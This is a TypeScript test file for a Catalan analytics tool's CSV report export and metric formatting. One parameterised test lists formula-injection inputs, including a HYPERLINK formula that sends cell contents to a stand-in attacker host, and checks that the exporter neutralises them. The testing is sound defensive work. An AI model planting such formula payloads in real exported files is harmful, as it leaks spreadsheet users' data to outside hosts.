import { describe, expect, it } from 'vitest';
import type { ReportAnswer } from '@mesura/protocol';
import { formatChange, formatMetric } from '../src/report-view/format-metric';
import { changeOf } from '../src/report-view/report-columns';
import { reportCsv, reportCsvName } from '../src/report-view/report-csv';

const ANSWER: ReportAnswer = {
  report: 'content/sections',
  title: 'Seccions',
  from: '2026-11-24',
  to: '2026-11-24',
  compare: { from: '2026-11-23', to: '2026-11-23' },
  filters: [],
  dimension: { key: 'section', label: 'Secció' },
  metrics: [
    { key: 'page_views', label: 'Pàgines vistes', format: 'count' },
    { key: 'visitors', label: 'Visitants', format: 'count', approximate: true },
  ],
  chart: 'bar',
  rows: [
    { key: 'noticies', label: 'Notícies, "avui"', values: { page_views: 120, visitors: 30 }, previous: { page_views: 100, visitors: 40 } },
    { key: 'portada', label: 'portada', values: { page_views: null, visitors: null }, previous: { page_views: null, visitors: null }, hidden: true },
    { key: 'esports', label: 'Esports', values: { page_views: 40, visitors: 9 }, previous: { page_views: null, visitors: null }, previousHidden: true },
  ],
  totalRows: 3,
  offset: 0,
  limit: 25,
  totals: { values: { page_views: 163, visitors: 42 }, previous: { page_views: 110, visitors: 45 } },
  minCohort: 5,
};

const lines = (csv: string) => csv.slice(1).split('\r\n');

describe('the CSV of what a report shows', () => {
  it('starts with a byte-order mark and ends its lines with CRLF', () => {
    const csv = reportCsv(ANSWER);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it("has the table's columns: each metric, its previous value and the change in %", () => {
    expect(lines(reportCsv(ANSWER))[0]).toBe(
      'Secció,Codi,Pàgines vistes,"Pàgines vistes, període anterior","Pàgines vistes, canvi (%)",Visitants,"Visitants, període anterior","Visitants, canvi (%)"',
    );
  });

  it('leaves hidden rows out, quotes labels, leaves hidden comparison cells empty and ends with the totals, numbers unformatted', () => {
    expect(lines(reportCsv(ANSWER)).slice(1)).toEqual(['"Notícies, ""avui""",noticies,120,100,20,30,40,-25', 'Esports,esports,40,,,9,,', 'Total,,163,110,48.18,42,45,-6.67', '']);
  });

  it('has no comparison columns without a comparison, and leaves hidden totals out', () => {
    const { compare: _compare, ...plain } = ANSWER;
    const rows = ANSWER.rows.map(({ previous: _p, previousHidden: _h, ...row }) => row);
    const csv = reportCsv({ ...plain, rows, totals: { values: { page_views: 163, visitors: 4 }, hidden: true } });
    expect(lines(csv)).toEqual(['Secció,Codi,Pàgines vistes,Visitants', '"Notícies, ""avui""",noticies,120,30', 'Esports,esports,40,9', '']);
  });

  it.each([
    ['=', '=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
    ['+', '+1+cmd', `"'+1+cmd"`],
    ['-', '-2+3', `"'-2+3"`],
    ['@', '@SUM(A1)', `"'@SUM(A1)"`],
    ['a tab', '\t=1+1', `"'\t=1+1"`],
    ['a carriage return', '\r=1+1', `"'\r=1+1"`],
  ])('writes a label that starts with %s as text a spreadsheet will not run', (_name, label, cell) => {
    const csv = reportCsv({ ...ANSWER, rows: [{ ...ANSWER.rows[0]!, label }] });
    expect(lines(csv)[1]).toBe(`${cell},noticies,120,100,20,30,40,-25`);
  });

  it("writes each row's code after its label: the code the answer gives, else the key, neutralised like a label", () => {
    const rows = [
      { ...ANSWER.rows[0]!, key: '3', label: 'Compartir', code: 'event3 · scCompartir' },
      { ...ANSWER.rows[2]!, key: '=1+1', label: 'x' },
    ];
    expect(lines(reportCsv({ ...ANSWER, rows })).slice(1, 3)).toEqual(['Compartir,event3 · scCompartir,120,100,20,30,40,-25', `x,"'=1+1",40,,,9,,`]);
  });

  it('is named after the report and its days', () => {
    expect(reportCsvName(ANSWER)).toBe('mesura-content-sections-2026-11-24-2026-11-24.csv');
  });
});

describe('metric formats', () => {
  it('writes numbers the Catalan way and says what changed', () => {
    expect(formatMetric(1234567, 'count')).toBe('1.234.567');
    expect(formatMetric(0.4215, 'percent')).toBe('42,2\u00a0%');
    expect(formatMetric(2.5, 'ratio')).toBe('2,50');
    expect(formatMetric(185, 'seconds')).toBe('3 min 05 s');
    expect(formatMetric(119.6, 'seconds')).toBe('2 min 00 s');
    expect(formatMetric(212_656, 'seconds')).toBe('59 h 04 min');
    expect(formatMetric(3599.7, 'seconds')).toBe('1 h 00 min');
    expect(formatMetric(null, 'count')).toBe('—');
    expect(formatChange(changeOf(120, 100))).toBe('+20\u00a0%');
    expect(formatChange(changeOf(80, 100))).toBe('-20\u00a0%');
    expect(formatChange(changeOf(120, 0))).toBe('');
    expect(formatChange(changeOf(null, 100))).toBe('');
  });
});
